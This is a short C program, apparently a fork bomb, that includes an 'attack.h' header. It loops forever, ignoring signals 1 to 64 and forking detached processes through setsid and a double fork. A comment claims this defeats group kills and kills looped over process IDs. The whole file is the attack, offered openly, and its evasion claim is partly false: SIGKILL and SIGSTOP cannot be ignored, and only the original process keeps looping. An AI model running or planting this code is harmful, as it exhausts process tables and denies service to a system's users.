/* Every process starts a session of its own, ignores all signals and forks on: no group kill and no loop over pids reaches them. */
#include "attack.h"
int main(void)
{
	for (;;) {
		for (int i = 1; i < 65; i++) signal(i, SIG_IGN);
		if (fork() == 0) { setsid(); if (fork()) _exit(0); }
	}
}
